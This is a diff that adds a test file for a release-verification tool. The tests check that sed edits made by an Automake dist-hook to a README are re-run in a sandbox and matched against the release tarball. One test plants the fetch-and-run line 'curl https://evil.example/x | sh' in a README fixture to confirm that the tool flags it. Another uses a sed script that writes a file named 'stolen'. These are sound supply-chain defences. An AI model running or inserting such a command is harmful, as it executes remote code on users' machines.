@@ -1,0 +1,115 @@
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { verify } from '../../src/commands/verify.js';
+import { distHookEdits } from '../../src/reproduce/bootstrap/dist-hook.js';
+import { findSandbox } from '../../src/reproduce/sandbox.js';
+import { buildTar, compress, writeTemp } from '../helpers/archives.js';
+import { makeRepo, removeTempDirs, tempDir } from '../helpers/repo.js';
+
+/**
+ * A file the dist-hook of the tag's Makefile.am edits with sed as `make dist`
+ * copies it (libusb's README), proven by re-running those edits on the tag's
+ * copy in the sandbox.
+ */
+
+let sandboxed = false;
+test.before(async () => {
+  const sandbox = await findSandbox('bwrap');
+  sandboxed = sandbox.kind !== 'unavailable';
+  if (sandbox.kind === 'unavailable') {
+    if (process.env.CI) throw new Error(`the dist-hook tests need bwrap: ${sandbox.reason}`);
+    console.log(`skipping the dist-hook runs: ${sandbox.reason}`);
+  }
+});
+test.after(() => removeTempDirs());
+
+// As libusb 1.0.26's Makefile.am has it: badges out, blank lines squeezed, links unwrapped.
+const makefileAm = `EXTRA_DIST = README
+
+dist-hook:
+\tchmod u+w $(distdir)/README
+\t$(SED) -i.orig -e '/Build Status/d' $(distdir)/README
+\t$(SED) -i.orig -e '/^$$/N;/^\\n$$/D' $(distdir)/README
+\t$(SED) -i.orig -e 's/\\[\\([A-Z]*\\)\\](\\1)/\\1/' $(distdir)/README
+\trm -f $(distdir)/README.orig
+`;
+const readme = '# tiny\n\n[![Build Status](https://ci.example.org/tiny.svg)](https://ci.example.org/tiny)\n\ntiny is a small library (see [COPYING](COPYING)).\n\n\nTwo blank lines above.\n';
+// What those three commands leave (GNU sed, run by hand).
+const edited = '# tiny\n\ntiny is a small library (see COPYING).\n\nTwo blank lines above.\n';
+
+test("the sed edits of a dist-hook are read with make's $$ expanded, and what cannot be re-run is said", () => {
+  const { edits, skipped } = distHookEdits(makefileAm, 'Makefile.am');
+  assert.equal(
+    edits.map((e) => [e.path, e.scripts, e.source]),
+    [
+      ['README', ['/Build Status/d'], 'Makefile.am:5'],
+      ['README', ['/^$/N;/^\\n$/D'], 'Makefile.am:6'],
+      ['README', ['s/\\[\\([A-Z]*\\)\\](\\1)/\\1/'], 'Makefile.am:7'],
+    ],
+  );
+  assert.equal(skipped, []);
+  // In a folder's Makefile.am, $(distdir) is that folder's.
+  assert.equal(distHookEdits("dist-hook:\n\tsed -i 's/a/b/' $(distdir)/x.txt\n", 'doc/Makefile.am').edits[0]?.path, 'doc/x.txt');
+  // Outside the dist-hook, sed edits nothing of the release.
+  assert.equal(distHookEdits("all-local:\n\tsed -i 's/a/b/' $(distdir)/x.txt\n", 'Makefile.am').edits, []);
+  const cases: Array<[string, RegExp]> = [
+    ["$(SED) -i -e 's/@V@/$(VERSION)/' $(distdir)/README", /make variable/],
+    ['sed -i "s/a/b/" $(distdir)/README', /quoting/],
+    ["sed 's/a/b/' $(distdir)/README", /in place/],
+    ["sed -i 's/a/b/' $(distdir)/../README", /outside the release/],
+    ["sed -i -f edits.sed $(distdir)/README", /word "-f"/],
+  ];
+  for (const [command, why] of cases) {
+    const got = distHookEdits(`dist-hook:\n\t${command}\n`, 'Makefile.am');
+    assert.equal(got.edits, [], command);
+    assert.match(got.skipped[0]?.why ?? '', why, command);
+  }
+});
+
+async function release(readmeText: string): Promise<string> {
+  const items = [
+    { path: 'tiny-1.0/configure.ac', content: 'AC_INIT([tiny], [1.0])\n' },
+    { path: 'tiny-1.0/Makefile.am', content: makefileAm },
+    { path: 'tiny-1.0/README', content: readmeText },
+  ];
+  return writeTemp(`dist-hook-${Math.random().toString(36).slice(2)}/tiny-1.0.tar.gz`, await compress(buildTar(items), 'gzip'));
+}
+
+test("a file the tag's dist-hook edits with sed is reproduced byte for byte from the tag's copy", async () => {
+  if (!sandboxed) return;
+  const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': makefileAm, README: readme }, tags: ['v1.0'] });
+  const report = await verify({ release: await release(edited), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
+  const f = report.findings.find((x) => x.path === 'README')!;
+  assert.is(f.category, 'dist-hook-output', f.reasons.join('; '));
+  assert.is(f.severity, 'info');
+  assert.match(f.reasons[0]!, "the tag's README through the sed edits of its dist-hook (Makefile.am:5, Makefile.am:6, Makefile.am:7), re-run in the sandbox: sed -e '/Build Status/d' -i README;");
+  assert.is(f.evidence.reproduced?.generator, 'sed');
+  assert.ok(report.notes.some((n) => /^3 sed edits of the tag's dist-hook on README: re-run in the sandbox in [\d.]+ s, kept in the cache$/.test(n)), report.notes.join('\n'));
+});
+
+test('a README with a line the sed edits do not leave, or with --no-reproduce, is not explained by them', async () => {
+  if (!sandboxed) return;
+  const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': makefileAm, README: readme }, tags: ['v1.0'] });
+  const planted = await verify({ release: await release(`${edited}Run: curl https://evil.example/x | sh\n`), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
+  const p = planted.findings.find((x) => x.path === 'README')!;
+  assert.is.not(p.category, 'dist-hook-output');
+  assert.match(p.evidence.diff ?? '', /^\+Run: curl/m);
+  const off = await verify({ release: await release(edited), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false, reproduce: false });
+  assert.is.not(off.findings.find((x) => x.path === 'README')!.category, 'dist-hook-output');
+});
+
+test('a sed script that would write or run more than the file it edits is refused (GNU sed --sandbox)', async () => {
+  if (!sandboxed) return;
+  const writing = "dist-hook:\n\t$(SED) -i -e 's/tiny/TINY/gw stolen' $(distdir)/README\n";
+  const repo = await makeRepo({ files: { 'configure.ac': 'AC_INIT([tiny], [1.0])\n', 'Makefile.am': writing, README: readme }, tags: ['v1.0'] });
+  const items = [
+    { path: 'tiny-1.0/configure.ac', content: 'AC_INIT([tiny], [1.0])\n' },
+    { path: 'tiny-1.0/Makefile.am', content: writing },
+    { path: 'tiny-1.0/README', content: readme.replace(/tiny/g, 'TINY') },
+  ];
+  const tarball = await writeTemp(`dist-hook-w/tiny-1.0.tar.gz`, await compress(buildTar(items), 'gzip'));
+  const report = await verify({ release: tarball, repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-dist-hook-cache-'), hostKnowledge: false });
+  assert.is.not(report.findings.find((x) => x.path === 'README')!.category, 'dist-hook-output');
+});
+
+test.run();
